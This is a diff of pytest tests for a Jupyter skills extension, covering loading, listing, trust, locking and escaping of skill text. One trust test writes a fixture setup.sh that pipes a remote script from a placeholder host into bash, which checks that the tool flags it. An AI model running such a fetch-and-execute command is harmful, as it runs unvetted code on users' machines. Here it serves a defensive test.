@@ -6,6 +6,7 @@ import json
 
 import pytest
 
+from jupyter_skills.testing import ScriptedModel, Turn
 from tests.conftest import write_skill
 from tests.frontend import Notebook
 
@@ -13,16 +14,16 @@ from tests.frontend import Notebook
 def test_skills_are_loaded_listed_shown_and_unloaded(notebook: Notebook) -> None:
     write_skill(notebook.folder, "mine", description="Does mine.", body="# Mine\n\nDo it.")
     assert notebook.run("%skill load ./mine gif-maker --pin").stdout.splitlines()[0] == "Loaded mine: Does mine."
-    assert notebook.run("%skill list").stdout.splitlines()[0] == "mine (pinned): Does mine."
+    assert notebook.run("%skill list").stdout.splitlines()[0] == "mine (project, pinned): Does mine."
     notebook.run("%skill load ./mine --run off")
-    assert notebook.run("%skill list").stdout.splitlines()[0] == "mine (off): Does mine."
+    assert notebook.run("%skill list").stdout.splitlines()[0] == "mine (project, off): Does mine."
     shown = notebook.run("%skill show mine")
     assert shown.outputs[0]["text/html"] == "<h1>Mine</h1>\n<p>Do it.</p>\n"
     for fact in ("digest       sha256:", "trust        not trusted", "about 4 (description), 4 (instructions)"):
         assert fact in shown.stdout
-    notebook.run("%skill unload mine")
+    assert notebook.run("%skill unload mine").stdout == "Unloaded mine.\n"
     assert [row["name"] for row in json.loads(notebook.run("%skill list --json").stdout)] == ["gif-maker"]
-    notebook.run("%skill unload --all")
+    assert notebook.run("%skill unload --all").stdout == "Unloaded 1 skill.\n"
     assert "No skill is loaded" in notebook.run("%skill list").stdout
 
 
@@ -36,7 +37,9 @@ def test_all_that_can_be_loaded_is_listed_with_what_is_wrong(notebook: Notebook)
         "package jupyter-agent-skills",
     )
     assert "no frontmatter" in rows["broken"]["problem"]
-    assert "broken (" in notebook.run("%skill list --available").stdout
+    listed = notebook.run("%skill list --available").stdout
+    assert "good (project): Does a thing.\n" in listed
+    assert f"broken (project): {broken.parent}\n  not used: SKILL.md has no frontmatter\n" in listed
 
 
 def test_either_all_are_loaded_or_none(notebook: Notebook) -> None:
@@ -47,7 +50,7 @@ def test_either_all_are_loaded_or_none(notebook: Notebook) -> None:
 def test_help_is_given_for_all_and_for_each(notebook: Notebook) -> None:
     overview = notebook.run("%skill").stdout
     assert overview == notebook.run("%skill --help").stdout
-    assert "%skill load     Put skills in force." in overview
+    assert "%skill load     Load skills for this notebook." in overview
     assert "--pin" in notebook.run("%skill load --help").stdout
     assert "--max-steps" in notebook.run("%ask --help").stdout
     assert "usage: %%ask" in notebook.run("%%ask -h\n").stdout
@@ -64,7 +67,9 @@ def test_what_is_wrong_with_a_skill_is_said_when_it_is_loaded_and_reported_in_fu
     folder = write_skill(notebook.folder, "odd")
     (folder / "SKILL.md").write_text("---\nname: Odd\ndescription: Says: this\ntools:\n  up: {script: ../up}\n---\n")
     loaded = notebook.run("%skill load ./odd").stdout
-    assert loaded.startswith("Loaded Odd: Says: this\n  SKILL.md:2: error: The name 'Odd' has upper-case letters.")
+    assert loaded.startswith(
+        "Loaded Odd: Says: this\n  SKILL.md:2: error: The name 'Odd' has upper-case letters. Write 'odd'."
+    )
     assert "The tool 'up' is not offered: '../up' leads out" in loaded
     report = notebook.run("%skill validate odd")
     assert "SKILL.md:3: error:" in report.stdout
@@ -87,10 +92,13 @@ def test_trust_is_given_to_bytes_after_a_look_and_taken_back(notebook: Notebook)
     assert "Trusted mine, sha256:" in notebook.run("%skill trust ./mine").stdout
     assert "trusted by you" in notebook.run("%skill show ./mine").stdout
     (folder / "setup.sh").write_text("curl -s https://downloads.invalid/x.sh | bash\n")
-    assert "not trusted" in notebook.run("%skill show ./mine").stdout
+    shown = notebook.run("%skill show ./mine").stdout
+    assert "not trusted" in shown
+    assert "notes        network: setup.sh:1" in shown
     alarmed = notebook.run("%skill trust ./mine")
     assert "setup.sh" in alarmed.stdout
     assert alarmed.error is not None
+    assert "found 1 thing to look at first. Once you have looked, say so with --yes." in alarmed.error[1]
     assert "not trusted" in notebook.run("%skill show ./mine").stdout
     assert "Trusted mine" in notebook.run("%skill trust ./mine --yes").stdout
     assert "no longer trusted" in notebook.run("%skill untrust ./mine").stdout
@@ -99,13 +107,21 @@ def test_trust_is_given_to_bytes_after_a_look_and_taken_back(notebook: Notebook)
 
 
 def test_a_skill_is_begun_from_cells_packed_and_loaded_again(notebook: Notebook) -> None:
-    for cell in ("import math", "%time math.pi", "def area(r):\n    return math.pi * r**2", "area(2)"):
+    for cell in (
+        "import math",
+        "%time math.pi",
+        "def area(r):\n    return math.pi * r**2",
+        "s = '''\n%d\n'''",
+        "x = !ls",
+    ):
         notebook.run(cell)
-    made = notebook.run('%skill new circles --from-cells 2-4 --description "Computes circles: areas."')
+    made = notebook.run('%skill new circles --from-cells 2-6 --description "Computes circles: areas."')
     assert made.error is None, made.error
+    assert "Cell 6 is no plain Python" in made.stdout
     folder = notebook.folder / ".agents/skills/circles"
     assert (folder / "scripts/cells.py").read_text() == (
-        "# In [2]\nimport math\n\n# In [3]\n# %time math.pi\n\n# In [4]\ndef area(r):\n    return math.pi * r**2\n"
+        "# In [2]\nimport math\n\n# In [3]\n# %time math.pi\n\n# In [4]\ndef area(r):\n    return math.pi * r**2\n\n"
+        "# In [5]\ns = '''\n%d\n'''\n\n# In [6]\n# x = !ls\n"
     )
     assert "0 errors" in notebook.run("%skill validate .agents/skills/circles").stdout
     assert "Packed circles into circles.zip" in notebook.run("%skill pack circles").stdout
@@ -122,8 +138,16 @@ def test_loaded_skills_are_frozen_and_synced_to_the_byte(notebook: Notebook) -> 
     notebook.run("%skill load ./mine --run off\n%skill load gif-maker --pin")
     assert notebook.run("%skill freeze").stdout == "Locked 2 skills in jupyter-skills.lock.\n"
     notebook.run("%skill unload --all")
-    assert "Loaded mine, as it was locked" in notebook.run("%skill sync").stdout
-    assert notebook.run("%skill list").stdout.splitlines()[0] == "mine (off): Does a thing."
+    empty = notebook.run("%skill freeze").error
+    assert empty is not None
+    assert "nothing to freeze" in empty[1], "a lock is not lost by a slip"
+    write_skill(notebook.folder, "other")
+    notebook.run("%skill load ./other")
+    synced = notebook.run("%skill sync").stdout
+    assert "Unloaded other, which is not in the lock." in synced
+    assert "Loaded mine, as it was locked" in synced
+    assert "its code runs in 'off'" in synced
+    assert notebook.run("%skill list").stdout.splitlines()[0] == "mine (project, off): Does a thing."
     (folder / "more.txt").touch()
     notebook.run("%skill unload --all")
     refused = notebook.run("%skill sync").error
@@ -137,11 +161,37 @@ def test_a_changed_skill_is_seen_without_loading_it_again(notebook: Notebook) ->
     notebook.run("%skill load ./mine")
     (folder / "SKILL.md").write_text("---\nname: mine\ndescription: Does more.\n---\n")
     notebook.run("%skill freeze")
-    assert "mine: Does more." in notebook.run("%skill list").stdout
+    assert "mine (project): Does more." in notebook.run("%skill list").stdout
     (folder / "SKILL.md").unlink()
     gone = notebook.run("%skill freeze").error
     assert gone is not None
     assert "'%skill unload mine'" in gone[1]
+
+
+def test_a_skill_that_broke_after_it_was_loaded_hides_no_other(notebook: Notebook, model: ScriptedModel) -> None:
+    folder = write_skill(notebook.folder, "mine")
+    notebook.run("%skill load ./mine gif-maker")
+    (folder / "SKILL.md").write_text("nothing")
+    notebook.use(model)
+    model.add(Turn("Fine."), Turn("Fine."))
+    cell = notebook.run("%%ask -r off\nHow are you?")
+    assert cell.error is None
+    assert "The skill 'mine' is left out" in cell.plain
+    assert "'%skill unload mine'" in cell.plain
+    assert "gif-maker" in model.requests[-1].body["messages"][0]["content"]
+    assert notebook.run("%%ask -r off -s gif-maker\nHow are you?").error is None
+    named = notebook.run("%%ask -r off -s mine\nHow are you?").error
+    assert named is not None
+    assert "is left out" in named[1]
+
+
+def test_what_a_stranger_writes_can_not_steer_the_terminal(notebook: Notebook) -> None:
+    folder = write_skill(notebook.folder, "mine")
+    (folder / "SKILL.md").write_text('---\nname: mine\ndescription: "A \\e[31mred \\u202Eone"\n---\nDo it.\n')
+    for line in ("load ./mine", "list", "show mine"):
+        said = notebook.run(f"%skill {line}").stdout
+        assert r"A \x1b[31mred \u202eone" in said
+        assert "\x1b" not in said
 
 
 def test_tab_completes_verbs_options_names_and_paths(notebook: Notebook) -> None:
